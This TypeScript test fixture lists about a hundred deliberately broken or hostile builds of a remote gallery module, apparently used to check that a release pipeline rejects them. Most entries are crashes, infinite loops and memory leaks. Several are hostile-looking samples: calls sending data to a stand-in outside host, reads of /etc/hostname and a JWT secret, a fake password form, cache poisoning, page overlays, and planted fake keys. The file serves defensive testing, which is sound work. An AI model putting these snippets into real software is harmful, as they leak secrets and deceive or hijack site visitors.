import { appendFileSync, mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Edit } from './checkout.ts';

/** A kind of broken or hostile build, created by small edits to the gallery's source or built files. */
export interface BadBuild {
  readonly name: string;
  readonly edits?: readonly Edit[];
  readonly afterBuild?: (dist: string) => void;
  /** False if the release store rejects the build even without the release checks. */
  readonly canBeForced?: false;
}

const ROUTES = 'remote-gallery/src/routes.tsx';
const PAGE = 'remote-gallery/src/gallery/gallery-page.tsx';
const STYLES = 'remote-gallery/src/gallery/gallery-page.module.css';
const CONFIG = 'remote-gallery/rspack.config.ts';

const MODULE_ANCHOR = 'const getLoaderKey =';
const PAGE_ANCHOR = '  const data = useLoaderData<GalleryData>();\n';
const MARKUP_ANCHOR = '    <>\n';
const IMPORTS = "import type { MouseEvent } from 'react';";

const insertIntoModule = (code: string): Edit => ({ file: ROUTES, from: MODULE_ANCHOR, to: `${code}\n${MODULE_ANCHOR}` });
const insertIntoRender = (code: string): Edit => ({ file: PAGE, from: PAGE_ANCHOR, to: `${PAGE_ANCHOR}  ${code}\n` });
const insertIntoPageModule = (code: string): Edit => ({ file: PAGE, from: IMPORTS, to: `${IMPORTS}\n${code}` });
const insertIntoEffect = (code: string): readonly Edit[] => [
  { file: PAGE, from: IMPORTS, to: "import { type MouseEvent, useEffect } from 'react';" },
  insertIntoRender(`useEffect(() => { ${code} }, []);`),
];
const insertMarkup = (markup: string): Edit => ({
  file: PAGE,
  from: `${MARKUP_ANCHOR}      <PageBanner`,
  to: `${MARKUP_ANCHOR}      ${markup}\n      <PageBanner`,
});
const style = (css: string): Edit => ({ file: STYLES, from: '.column {', to: `${css}\n.column {` });
const addRoute = (route: string): Edit => ({ file: ROUTES, from: '    children: [\n', to: `    children: [\n      ${route},\n` });

const LOADER = 'loader: galleryLoader(services),';
/** Inserts code into the loader, with `services` and `args` in scope. If the code returns nothing, the gallery's own loader runs. */
const insertIntoLoader = (code: string): Edit => ({
  file: ROUTES,
  from: LOADER,
  to: `loader: async (args) => { ${code} return galleryLoader(services)(args); },`,
});
const importInRoutes = (names: string, from: string): Edit => ({
  file: ROUTES,
  from: 'import type { HostServices }',
  to: `import { ${names} } from '${from}';\nimport type { HostServices }`,
});
const REDIRECT_IMPORT = importInRoutes('redirect', '@site/shared/router');
const insertText = (text: string): Edit => insertMarkup(`<p hidden>${text}</p>`);

const HAS_DATA_CONDITION = "data.state === 'loaded' && data.view.total > 0";
const IS_BROWSER = "typeof window !== 'undefined'";
const PENDING_PROMISE = 'new Promise(() => undefined)';
/** Keeps a CPU core busy most of the time, in slices of 8 ms. */
const BUSY_SLICES = 'const slice = () => { const end = Date.now() + 8; while (Date.now() < end); setTimeout(slice, 1); };';

const changeManifest =
  (change: (manifest: Record<string, unknown>) => void) =>
  (dist: string): void => {
    const file = join(dist, 'browser/build.json');
    const manifest = JSON.parse(readFileSync(file, 'utf8'));
    change(manifest);
    writeFileSync(file, JSON.stringify(manifest));
  };
const findChunk = (dist: string): string => join(dist, 'browser', readdirSync(join(dist, 'browser')).find((file) => /^gallery\..*\.js$/.test(file)) ?? '');

const INCOMPRESSIBLE_TEXT = Array.from({ length: 12_000 }, (_, index) => Math.abs(Math.sin(index + 1) * 1e16).toString(36)).join('');

export const BAD_BUILDS: readonly BadBuild[] = [
  { name: 'throws at load', edits: [insertIntoModule("throw new Error('broken on purpose');")] },
  { name: 'throws at load in the browser only', edits: [insertIntoModule(`if (${IS_BROWSER}) throw new Error('broken in browsers');`)] },
  { name: 'throws in each render', edits: [insertIntoRender("throw new Error('no page');")] },
  { name: 'throws with real data', edits: [insertIntoRender(`if (${HAS_DATA_CONDITION}) throw new Error('real data');`)] },
  { name: 'throws when the provider fails', edits: [insertIntoRender("if (data.state === 'failed') throw new Error('no data');")] },
  { name: 'throws in an effect', edits: insertIntoEffect("throw new Error('effect');") },
  {
    name: 'exposes no routes in the browser',
    edits: [{ file: ROUTES, from: 'export const createRoutes =', to: `export { routes as createRoutes };\nconst routes = ${IS_BROWSER} ? undefined :` }],
  },
  { name: 'loops at load', edits: [insertIntoModule('for (;;) if (Date.now() < 0) break;')] },
  { name: 'loops in a render with data', edits: [insertIntoRender(`if (${HAS_DATA_CONDITION}) for (;;) if (Date.now() < 0) break;`)] },
  { name: 'loops in a browser render', edits: [insertIntoRender(`if (${IS_BROWSER}) for (;;) if (Date.now() < 0) break;`)] },
  { name: 'loops in an effect', edits: insertIntoEffect('for (;;) if (Date.now() < 0) break;') },
  { name: 'rejects a promise in a timer', edits: [insertIntoModule("setTimeout(() => void Promise.reject(new Error('late')), 100);")] },
  { name: 'rejects a promise in a render', edits: [insertIntoRender("void Promise.reject(new Error('late'));")] },
  { name: 'throws late', edits: [insertIntoModule("setTimeout(() => { throw new Error('late'); }, 3000);")] },
  { name: 'kills the process', edits: [insertIntoModule("globalThis.process?.kill(globalThis.process.pid, 'SIGKILL');")] },
  { name: 'ends the process with status 0', edits: [insertIntoModule('globalThis.process?.exit(0);')] },
  { name: 'ends the process with status 1 in a render', edits: [insertIntoRender('globalThis.process?.exit(1);')] },
  {
    name: 'grows without end in a render',
    edits: [insertIntoRender(`if (!(${IS_BROWSER})) { const all = []; for (;;) all.push(new Array(1e6).fill(1.5)); }`)],
  },
  {
    name: 'takes 2 GB at load',
    edits: [insertIntoModule(`export const blocks = ${IS_BROWSER} ? [] : Array.from({ length: 20 }, () => new Uint8Array(1e8).fill(1));`)],
  },
  {
    name: 'keeps 20 MB with each render',
    edits: [insertIntoPageModule('const leak = [];'), insertIntoRender(`if (!(${IS_BROWSER})) leak.push(new Array(2.5e6).fill(Math.random()));`)],
  },
  { name: 'pollutes a prototype', edits: [insertIntoModule('Array.prototype.last = function last() { return this[this.length - 1]; };')] },
  { name: 'pollutes a prototype in the browser only', edits: [insertIntoModule(`if (${IS_BROWSER}) Object.prototype.gallery = 'everywhere';`)] },
  { name: 'replaces JSON.parse', edits: [insertIntoModule('const { parse } = JSON; JSON.parse = (...values) => parse(...values);')] },
  { name: 'hides the header with a global style', edits: [style(':global(header) { display: none; }')] },
  { name: 'redefines a token', edits: [style(':global(:root) { --brand: red; }')] },
  { name: 'styles the parent of its page', edits: [style(':global(body):has(.column) :global(footer) { display: none; }')] },
  { name: 'declares a font', edits: [style('@font-face { font-family: Onest; src: url(data:font/woff2;base64,AAAA); }')] },
  {
    name: 'hides the header with an adopted style',
    edits: insertIntoEffect("const sheet = new CSSStyleSheet(); sheet.replaceSync('header { opacity: 0.2 }'); document.adoptedStyleSheets.push(sheet);"),
  },
  { name: 'claims /login', edits: [{ file: CONFIG, from: "paths: ['/gallery']", to: "paths: ['/gallery', '/login']" }], canBeForced: false },
  { name: 'serves an undeclared /news', edits: [addRoute("{ path: '/news', element: 'Taken over' }")] },
  { name: 'serves every URL', edits: [addRoute("{ path: '*', element: 'Taken over' }")] },
  { name: 'declares a path without a route', edits: [{ file: CONFIG, from: "paths: ['/gallery']", to: "paths: ['/gallery', '/albums']" }] },
  { name: 'has no routes', edits: [{ file: ROUTES, from: '=> [\n  {\n    children', to: '=> [].concat([]) ?? [\n  {\n    children' }] },
  { name: 'has a route twice', edits: [addRoute("{ path: '/gallery', element: 'The first' }")] },
  {
    name: 'makes a page 120 KB larger',
    edits: [insertIntoPageModule(`const NOISE = '${INCOMPRESSIBLE_TEXT}';`), insertMarkup('{parameters.get("noise") === "1" && NOISE}')],
  },
  { name: 'needs React 18', afterBuild: changeManifest((manifest) => Object.assign(manifest, { shared: { react: '18.3.1', 'react-dom': '18.3.1' } })) },
  { name: 'is built for contract 3', afterBuild: changeManifest((manifest) => Object.assign(manifest, { contract: 3 })) },
  { name: 'starts a timer at module level', edits: [insertIntoModule('setInterval(() => undefined, 1000);')] },
  { name: 'fetches at load', edits: [insertIntoModule("void fetch('https://elsewhere.example/collect').catch(() => undefined);")] },
  { name: 'fetches in an effect', edits: insertIntoEffect("void fetch('https://elsewhere.example/collect').catch(() => undefined);") },
  { name: 'reads a file', edits: [insertIntoModule("globalThis.process?.getBuiltinModule?.('node:fs').readFileSync('/etc/hostname');")] },
  { name: 'reads the environment', edits: [insertIntoModule('export const secret = globalThis.process?.env.JWT_SECRET;')] },
  { name: 'imports a Node module', edits: [insertIntoModule("import { readFileSync } from 'node:fs';\nreadFileSync('/etc/hostname');")] },
  { name: 'has a symbolic link', afterBuild: (dist) => symlinkSync('/etc/hostname', join(dist, 'browser/hostname.js')), canBeForced: false },
  { name: 'has an unreferenced file', afterBuild: (dist) => writeFileSync(join(dist, 'browser/extra.js'), 'alert(1)') },
  { name: 'has an HTML file', afterBuild: (dist) => writeFileSync(join(dist, 'browser/index.html'), '<script>alert(1)</script>') },
  { name: 'has a manifest that is not JSON', afterBuild: (dist) => writeFileSync(join(dist, 'browser/build.json'), '{ "contract": 1'), canBeForced: false },
  { name: 'has a changed chunk', afterBuild: (dist) => appendFileSync(findChunk(dist), '\n') },
  { name: 'has lost a chunk', afterBuild: (dist) => rmSync(findChunk(dist)) },
  {
    name: 'has a folder in place of its bundle',
    afterBuild: (dist) => {
      rmSync(join(dist, 'server/routes.cjs'));
      mkdirSync(join(dist, 'server/routes.cjs'));
    },
    canBeForced: false,
  },
  { name: 'writes a script into its HTML', edits: [insertMarkup("<script dangerouslySetInnerHTML={{ __html: 'window.taken = 1' }} />")] },
  { name: 'writes a style into its HTML', edits: [insertMarkup('<style>{`header { display: none }`}</style>')] },
  { name: 'prints errors', edits: insertIntoEffect("console.error('something is wrong');") },
  {
    name: 'violates the policy',
    edits: insertIntoEffect(
      "const frame = document.createElement('iframe'); frame.src = 'https://elsewhere.example/'; document.querySelector('main')?.append(frame);",
    ),
  },
  { name: 'leaves a global in the browser', edits: insertIntoEffect('window.galleryState = { data };') },
  { name: 'leaves a listener', edits: insertIntoEffect("window.addEventListener('scroll', () => undefined);") },
  { name: 'leaves an interval', edits: insertIntoEffect('setInterval(() => undefined, 500);') },
  {
    name: 'takes the focus',
    edits: insertIntoEffect(
      "const field = document.querySelector('main'); document.addEventListener('focusin', (event) => { if (event.target !== field) field?.focus(); });",
    ),
  },
  { name: 'patches the history', edits: insertIntoEffect('const push = history.pushState.bind(history); history.pushState = (...values) => push(...values);') },
  {
    name: 'covers the shell',
    edits: insertIntoEffect(
      "const cover = document.createElement('div'); Object.assign(cover.style, { position: 'fixed', inset: 0, zIndex: 9999 }); document.body.append(cover);",
    ),
  },
  { name: 'renders other HTML in the browser', edits: [insertMarkup(`<p>{${IS_BROWSER} ? 'Browser' : 'Server'}</p>`)] },
  { name: 'blocks the page for two seconds', edits: insertIntoEffect('const end = Date.now() + 2000; while (Date.now() < end);') },
  {
    name: 'has a type error',
    edits: [{ file: PAGE, from: PAGE_ANCHOR, to: `${PAGE_ANCHOR}  const count: number = 'many';\n  void count;\n`, isChecked: true }],
  },
  {
    name: 'nests forty blocks in its styles',
    edits: [style(`${Array.from({ length: 40 }, (_, level) => `@media (min-width: ${level + 1}px) {`).join(' ')} .deep { color: red } ${'}'.repeat(40)}`)],
  },
  {
    name: 'takes 400 KB for its styles',
    edits: [
      style(
        Array.from({ length: 9000 }, (_, index) => `.c${index} { margin-left: ${index + 1}px; color: #${String(index % 1000).padStart(3, '0')} }`).join('\n'),
      ),
    ],
  },
  { name: 'selects with forty levels of alternatives', edits: [style(`.column${':is(a, :not('.repeat(20)}b${'))'.repeat(20)} { color: red }`)] },
  { name: 'redirects to itself', edits: [REDIRECT_IMPORT, insertIntoLoader("throw redirect('/gallery');")] },
  { name: 'redirects to itself in the browser only', edits: [REDIRECT_IMPORT, insertIntoLoader(`if (${IS_BROWSER}) throw redirect('/gallery');`)] },
  {
    name: 'redirects between two URLs',
    edits: [REDIRECT_IMPORT, insertIntoLoader("throw redirect(args.request.url.includes('page=2') ? '/gallery' : '/gallery?page=2');")],
  },
  { name: 'redirects to another site', edits: [REDIRECT_IMPORT, insertIntoLoader("throw redirect('https://elsewhere.example/');")] },
  {
    name: 'navigates again after each navigation',
    edits: [
      { file: PAGE, from: IMPORTS, to: "import { type MouseEvent, useEffect } from 'react';" },
      insertIntoRender('const go = useNavigate(); useEffect(() => void go("/gallery?n=" + Math.random(), { replace: true }));'),
    ],
  },
  {
    name: 'suspends for ever in the browser',
    edits: [insertIntoPageModule(`const never = ${PENDING_PROMISE};`), insertIntoRender(`if (${IS_BROWSER}) throw never;`)],
  },
  {
    name: 'suspends for ever on the server',
    edits: [insertIntoPageModule(`const never = ${PENDING_PROMISE};`), insertIntoRender(`if (!(${IS_BROWSER})) throw never;`)],
  },
  { name: 'loads data for ever in the browser', edits: [insertIntoLoader(`if (${IS_BROWSER}) await ${PENDING_PROMISE};`)] },
  { name: 'loads data for ever on the server', edits: [insertIntoLoader(`if (!(${IS_BROWSER})) await ${PENDING_PROMISE};`)] },
  {
    name: 'loads its page for ever in the browser',
    edits: [{ file: ROUTES, from: 'lazy: async () => {', to: `lazy: async () => { if (${IS_BROWSER}) await ${PENDING_PROMISE};` }],
  },
  {
    name: 'has a drawing of 24 doubled levels',
    edits: [
      insertMarkup(
        '<svg><defs><path id="level0" d="M0 0h1v1z" />{Array.from({ length: 24 }, (_, level) => <g key={level} id={"level" + (level + 1)}><use href={"#level" + level} /><use href={"#level" + level} x="1" /></g>)}</defs><use href="#level24" /></svg>',
      ),
    ],
  },
  {
    name: 'fills the cookies',
    edits: insertIntoEffect("for (let index = 0; index < 40; index += 1) document.cookie = 'filled' + index + '=' + 'x'.repeat(4000) + '; path=/';"),
  },
  {
    name: 'writes into the saved pages',
    edits: insertIntoEffect("void caches.open('pages').then((cache) => cache.put('/about', new Response('Not what the site says')));"),
  },
  {
    name: 'deletes what the browser has saved',
    edits: insertIntoEffect('void caches.keys().then((names) => names.forEach((name) => void caches.delete(name)));'),
  },
  { name: "clears the visitor's settings", edits: insertIntoEffect("localStorage.setItem('theme', 'dark'); localStorage.clear();") },
  { name: 'covers the shell with its styles', edits: [style('.column::before { position: fixed; z-index: 99; inset: 0; content: ""; }')] },
  { name: 'asks for a password', edits: [insertMarkup('<form><label>Password <input type="password" /></label></form>')] },
  {
    name: 'sends a form to another site',
    edits: [insertMarkup('<form action="https://elsewhere.example/" method="post"><button type="submit">Continue</button></form>')],
  },
  {
    name: 'makes 99 calls for a page',
    edits: [
      importInRoutes('listAlbums', '@site/shared/contracts/gallery'),
      insertIntoLoader('await Promise.all(Array.from({ length: 99 }, () => services.http.call(listAlbums, { silent: true })));'),
    ],
  },
  { name: 'works in slices on the server', edits: [insertIntoModule(`if (!(${IS_BROWSER})) { ${BUSY_SLICES} slice(); }`)] },
  {
    name: 'works in slices after rendering a page',
    edits: [insertIntoPageModule(`let works = ${IS_BROWSER}; ${BUSY_SLICES}`), insertIntoRender('if (!works) { works = true; setTimeout(slice, 3000); }')],
  },
  { name: 'works in slices in the browser', edits: insertIntoEffect(`${BUSY_SLICES} slice();`) },
  // Split the key, so that secret scanners do not report this file.
  { name: 'contains an AWS key', edits: [insertText(`${'AKIA'}QYLPMN5HHHFPZAM2`)] },
  { name: 'contains a private key', edits: [insertText(`-----BEGIN ${'PRIVATE'} KEY-----MC4CAQAwBQYDK2VwBCIEIA-----END PRIVATE KEY-----`)] },
  { name: 'contains a release token', edits: [insertText(`release_${'Zk3v'.repeat(11).slice(1)}`)] },
  { name: 'shadows members of the document', edits: [insertMarkup('<form name="querySelector"><input name="nodeType" /></form>')] },
  {
    name: 'patches the iterator of arrays',
    edits: insertIntoEffect(
      'const iterate = Array.prototype[Symbol.iterator]; Array.prototype[Symbol.iterator] = function each() { return iterate.call(this); };',
    ),
  },
  {
    name: 'patches the shared React',
    edits: [
      { file: PAGE, from: IMPORTS, to: "import React, { type MouseEvent, useEffect } from 'react';" },
      insertIntoRender('useEffect(() => { const { useState } = React; React.useState = (...values) => useState(...values); }, []);'),
    ],
  },
  {
    name: 'has ten thousand routes',
    edits: [addRoute("...Array.from({ length: 10_000 }, (_, index) => ({ path: '/gallery/' + index, element: 'One of many' }))")],
  },
  { name: 'sends 5 MB of HTML', edits: [insertText("{'many words '.repeat(500_000)}")] },
  { name: 'sends 120,000 elements', edits: [insertText('{Array.from({ length: 120_000 }, (_, index) => <i key={index} />)}')] },
  { name: 'nests four thousand elements', edits: [insertMarkup('{Array.from({ length: 4000 }).reduce((inner) => <div>{inner}</div>, null)}')] },
  {
    name: 'has data that cannot be sent',
    edits: [insertIntoLoader("return { state: 'failed', albums: [], album: null, photo: null, format: () => 'text' };")],
  },
  { name: 'throws null', edits: [insertIntoRender('throw null;')] },
  { name: 'evaluates text', edits: insertIntoEffect("new Function('return 1')();") },
  { name: 'opens a socket to another site', edits: insertIntoEffect("new WebSocket('wss://elsewhere.example/');") },
  { name: 'opens a window', edits: insertIntoEffect("window.open('https://elsewhere.example/');") },
  { name: 'shows a browser dialog', edits: insertIntoEffect("alert('Welcome');") },
  { name: 'replaces the whole page', edits: insertIntoEffect("document.body.innerHTML = '';") },
  { name: 'writes a new document', edits: insertIntoEffect("document.open(); document.write('Gone'); document.close();") },
];
